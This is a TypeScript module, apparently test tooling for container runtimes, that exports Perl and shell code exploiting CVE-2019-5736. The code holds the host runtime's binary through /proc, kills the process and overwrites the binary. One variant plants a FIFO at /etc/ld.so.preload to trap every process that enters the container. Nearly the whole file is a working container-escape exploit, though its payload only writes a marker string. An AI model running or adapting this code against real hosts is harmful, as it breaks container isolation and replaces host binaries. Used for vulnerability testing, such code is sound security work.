// The attack of CVE-2019-5736: one holds the file of a program of the host, which need not be within reach by any path,
// ends the program, and writes to the file.

/** perl: `attack(PID)` prints `held NAME`, and then how the writing went: `wrote NAME` or `NAME: REASON`. */
const attack = `
$| = 1;
sub attack {
  my ($pid) = @_;
  my $program = readlink "/proc/$pid/exe";
  open my $file, '<', "/proc/$pid/exe" or return 0;
  print "held $program\\n";
  kill 'KILL', $pid;
  my ($copy, $how);
  for (1 .. 500) {
    $how = sysopen($copy, '/proc/self/fd/' . fileno($file), 1) && defined syswrite($copy, "overwritten\\n") ? '' : "$!";
    last if $how ne 'Text file busy';
    select undef, undef, undef, 0.02;
  }
  print $how ? "$program: $how\\n" : "wrote $program\\n";
  return 1;
}
`;

/** A perl program that attacks the process whose id is its argument. */
export const overwriteProcess = `${attack} attack(@ARGV);`;

/**
 * A perl program that lies in wait in a container and attacks whatever comes in: all but what lies in /bin or /dev, which
 * is the container's own. It says `watching` first. Who comes in stops at the FIFO where its linker looks first, so that
 * none is missed and none ends before it was held.
 */
export const overwriteWhoComes = `${attack}
system '/bin/busybox', 'mkfifo', '-m', '666', '/etc/ld.so.preload';
print "watching\\n";
my %seen;
while (1) {
  opendir my $processes, '/proc';
  for my $pid (grep { /^\\d+$/ && !$seen{$_} } readdir $processes) {
    my $program = readlink "/proc/$pid/exe";
    $seen{$pid} = attack($pid) if $program && $program !~ m{^/(bin|dev)/};
  }
  select undef, undef, undef, 0.01;
}
`;

/** Commands for a container which are, once inside, the program that has let them in. */
export const itself: readonly (readonly string[])[] = [['/proc/self/exe', '--version'], ['/bin/itself']];

/** sh: makes `/bin/itself` in the root directory `root`. */
export const makeItself = (root: string) => `printf '#!/proc/self/exe\\n' >${root}/bin/itself; chmod 755 ${root}/bin/itself`;
